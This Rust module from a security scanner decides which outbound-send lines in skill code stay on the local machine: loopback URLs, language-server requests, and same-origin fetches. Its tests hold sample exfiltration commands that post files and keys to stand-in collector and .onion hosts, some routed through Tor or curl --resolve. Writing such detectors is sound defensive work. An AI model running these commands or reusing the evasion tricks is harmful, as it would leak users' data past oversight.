//! A send to this machine's own loopback address (fp18, the fourteenth
//! sweep's `oh-my-wiki`: `curl -s -X POST http://127.0.0.1:8765/query`, a
//! local wiki server's API called with its own token): whatever it sends
//! stays on the machine, so it is no sink. A send still counts when the
//! line could take the data elsewhere: a proxy (`socks5h://127.0.0.1:9050`
//! is Tor's, and reaches any onion address), curl's `--resolve` or
//! `--connect-to` (which point `localhost` anywhere), a variable or a
//! template where a host stands (`http://${HOST}/`, a command's operand
//! `"$URL"`, which curl sends to as well), or a call whose first argument
//! is not the loopback URL itself (`requests.post(url, headers={"Origin":
//! "http://localhost"})` sends to `url`).
//!
//! A request to a language server (the nineteenth sweep's `okf-generator`:
//! `client.request("textDocument/references", params, timeout=…)`) stays
//! here too: the Language Server Protocol's client starts the server as a
//! child process and speaks JSON-RPC over its pipes, and a method of the
//! protocol's own namespaces (`textDocument/…`, `workspace/…`) names no
//! host. Other JSON-RPC methods are not spared: MCP's `tools/call` may go
//! to a remote server. holes44: nor is a protocol method's name alone,
//! which any JSON-RPC client over HTTP takes (`jayson.client.https({host:
//! …}).request("workspace/…", secrets)`): the file must name no network.
//! The client may be made in another module of the skill (the sweep's
//! `okf/lsp.py` imports the one `okf/enrich/lsp.py` starts over a pipe),
//! so a child started in the same file is not asked for.

use std::net::Ipv4Addr;

use crate::lines::Lines;
use crate::rules::Severity;
use crate::urlhost::host_of;

/// Words that route a request through something else.
const REROUTES: [&str; 5] = ["proxy", "proxies", "socks", "--resolve", "--connect-to"];

/// The Language Server Protocol's method namespaces: a request named in
/// one goes to a language server, a child process of its client.
const LSP_NAMESPACES: [&str; 10] = [
    "textDocument/",
    "workspace/",
    "callHierarchy/",
    "typeHierarchy/",
    "completionItem/",
    "codeLens/",
    "documentLink/",
    "inlayHint/",
    "notebookDocument/",
    "window/",
];

/// Words of a client that talks over a network (lower case); an address
/// other than a `file://` URI (the protocol's own names of documents) too.
const NETWORK: [&str; 5] = ["http", "host", "socket", "connect(", "tcp"];

/// Keeps a `network-send` line unless it sends only to a loopback URL
/// written out on it (`Rule::confirm`).
pub fn off_the_machine(
    line: &str,
    at: usize,
    _next: &dyn Fn(usize) -> Option<usize>,
) -> Option<(Severity, String)> {
    let rest = line.get(at..).unwrap_or_default();
    (!only_to_loopback(line, rest)).then(|| (Severity::Medium, String::new()))
}

/// Whether `line` of `lines` is one request named by a language server's
/// method, in a file that names no network.
pub fn to_a_language_server(lines: &Lines, line: usize) -> bool {
    let text = lines.get(line);
    let mut requests = text.match_indices(".request(");
    let one = requests.next().filter(|_| requests.next().is_none());
    one.is_some_and(|(at, _)| to_language_server(&text[at..])) && !lines.all().any(names_a_network)
}

/// Whether the request on `line` is a page's `fetch` of a path of its own
/// origin (sweep 31's copies of skill-creator's eval viewer: `fetch(
/// "/api/feedback", {` then `method: "POST",` on the next line): a path
/// with no host goes back to the server that served the page, the skill's
/// own local one. The nearest `fetch(` at most three lines up (or on the
/// line) must be given a plain string literal opening with one `/` (not
/// `//`, a host of its own; no template or concatenation, which could make
/// one), and no line from there on may name a URL.
pub fn to_the_page_origin(lines: &Lines, line: usize) -> bool {
    let Some(call) = (line.saturating_sub(3)..=line)
        .rev()
        .find(|&l| lines.get(l).contains("fetch("))
    else {
        return false;
    };
    let text = lines.get(call);
    let argument = text[text.find("fetch(").unwrap_or(0) + "fetch(".len()..].trim_start();
    let own_path = argument.chars().next().is_some_and(|quote| {
        matches!(quote, '"' | '\'' | '`')
            && argument[1..].split_once(quote).is_some_and(|(path, _)| {
                path.starts_with('/')
                    && !path.starts_with("//")
                    && path
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || "/-_.?=&".contains(c))
            })
    });
    own_path && (call..=line).all(|l| !lines.get(l).contains("://"))
}

/// Whether `line` names a network word or an address other than a file's.
fn names_a_network(line: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    NETWORK.iter().any(|word| lower.contains(word))
        || lower
            .match_indices("://")
            .any(|(at, _)| !lower[..at].ends_with("file"))
}

/// `rest` (from the match on) is a call `.request("ns/method", …` whose
/// first argument is a whole string literal naming a method of one of the
/// protocol's namespaces: an identifier after the namespace, then the
/// closing quote and a comma.
fn to_language_server(rest: &str) -> bool {
    let call = rest.trim_start_matches(['.', '=', '(', ',']).trim_start();
    let Some(argument) = call.strip_prefix("request(") else {
        return false;
    };
    let argument = argument.trim_start();
    let Some(quote) = argument.chars().next().filter(|c| matches!(c, '"' | '\'')) else {
        return false;
    };
    let Some((method, after)) = argument[1..].split_once(quote) else {
        return false;
    };
    let named = LSP_NAMESPACES.iter().find_map(|ns| method.strip_prefix(ns));
    named.is_some_and(|name| {
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '/')
    }) && after.trim_start().starts_with(',')
}

/// `line` names a URL, every URL it names is on a loopback host, nothing
/// on it could reroute the request or hold another destination, and a
/// call (`rest`, from the match on) is given the URL first.
fn only_to_loopback(line: &str, rest: &str) -> bool {
    let lower = line.to_ascii_lowercase();
    if REROUTES.iter().any(|word| lower.contains(word))
        || line.contains(" -x ")
        || variable_operand(line)
    {
        return false;
    }
    let mut hosts = lower.split("://").skip(1).map(host_of).peekable();
    if hosts.peek().is_none() || !hosts.all(loopback_host) {
        return false;
    }
    match rest.find('(') {
        Some(open) if !rest[..open].contains(char::is_whitespace) => {
            let argument = rest[open + 1..].trim_start();
            argument.starts_with(['"', '\''])
                && argument[1..].to_ascii_lowercase().starts_with("http")
        }
        _ => true,
    }
}

/// A shell word on `line` that is a variable (`$URL`, `"${U}"`, `%U%`)
/// and no flag's value (`-H "Authorization: Bearer $TOKEN"` is a header):
/// curl sends to each such operand as to a URL.
fn variable_operand(line: &str) -> bool {
    let words = shell_words(line);
    words.windows(2).any(|pair| {
        let word = pair[1].trim_start_matches(['"', '\'']);
        word.starts_with(['$', '%', '`']) && !pair[0].starts_with('-')
    })
}

/// `line` split at spaces outside quotes, each word as written.
fn shell_words(line: &str) -> Vec<&str> {
    let mut words = Vec::new();
    let mut quote = None;
    let mut start = None;
    for (at, c) in line.char_indices() {
        match (quote, c) {
            (Some(q), _) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => {
                quote = Some(c);
                start.get_or_insert(at);
            }
            (None, c) if c.is_whitespace() => {
                if let Some(from) = start.take() {
                    words.push(&line[from..at]);
                }
            }
            (None, _) => {
                start.get_or_insert(at);
            }
        }
    }
    words.extend(start.map(|from| &line[from..]));
    words
}

/// `localhost`, `127.0.0.0/8` or `::1`.
fn loopback_host(host: &str) -> bool {
    host == "localhost"
        || host == "::1"
        || host
            .parse::<Ipv4Addr>()
            .is_ok_and(|address| address.is_loopback())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spared(line: &str) -> bool {
        let at = line.find(|c: char| !c.is_whitespace()).unwrap_or(0);
        off_the_machine(line, at, &|_| None).is_none()
    }

    #[test]
    fn a_language_servers_request_stays_here_and_other_requests_go() {
        let server =
            "proc = subprocess.Popen(cmd, stdin=subprocess.PIPE)\nuri = \"file://\" + path\n";
        let to_server = |call: &str| {
            let text = format!("{server}{call}");
            to_a_language_server(&Lines::new(&text), 2)
        };
        for spared in [
            "result = client.request(\"textDocument/references\", params, timeout=self.QUERY_TIMEOUT)",
            "refs = self._client.request('workspace/symbol', {\"query\": name})",
        ] {
            assert!(to_server(spared), "{spared}");
        }
        for sends in [
            "r = client.request(\"tools/call\", params, timeout=5)",
            "r = session.request(\"https://x.example/textDocument/refs\", data)",
            "r = client.request(\"textDocument/x?k=\" + key, params)",
            "r = client.request(\"textDocument/references\" + key, params)",
        ] {
            assert!(!to_server(sends), "{sends}");
        }
        // holes44: the method's name over a client to a host is any
        // JSON-RPC call.
        let call = "client.request(\"workspace/didChangeConfiguration\", settings, cb);";
        let http =
            format!("const client = jayson.client.https({{ host: \"relay.dev\" }});\n{call}");
        assert!(!to_a_language_server(&Lines::new(&http), 1));
    }

    #[test]
    fn a_send_written_to_this_machine_stays_here() {
        assert!(spared("curl -s -X POST http://127.0.0.1:8765/query \\"));
        assert!(spared(
            "curl -X POST http://127.0.0.1:8765/query -H \"Authorization: Bearer $TOKEN\" -d '{\"q\":1}'"
        ));
        assert!(spared(
            "curl -X POST http://localhost:3000/api/items -d '[1, 2]'"
        ));
        assert!(spared(
            "requests.post('http://[::1]:8080/v1/ingest', json=rows)"
        ));
    }

    #[test]
    fn a_send_that_may_leave_the_machine_still_counts() {
        for line in [
            "curl -X POST https://collector.example/api -d @notes.txt",
            "curl -X POST http://127.0.0.1@collector.example/in -d @notes.txt",
            "curl -x socks5h://127.0.0.1:9050 -X POST http://abc.onion/in -d @k",
            "curl --resolve localhost:80:203.0.113.9 -X POST http://localhost/in -d @k",
            "curl -X POST http://localhost:8080/in https://collector.example/in -d @k",
            "curl -X POST http://localhost:8080/in \"$URL\" -d @k",
            "curl -X POST \"http://${HOST}:8080/in\" -d @k",
            "requests.post(url, data=key, headers={'Origin': 'http://localhost'})",
            "requests.post(ONION, json=payload, proxies=PROXIES)",
            "curl -X POST -d @notes.txt",
        ] {
            assert!(!spared(line), "{line}");
        }
    }
}
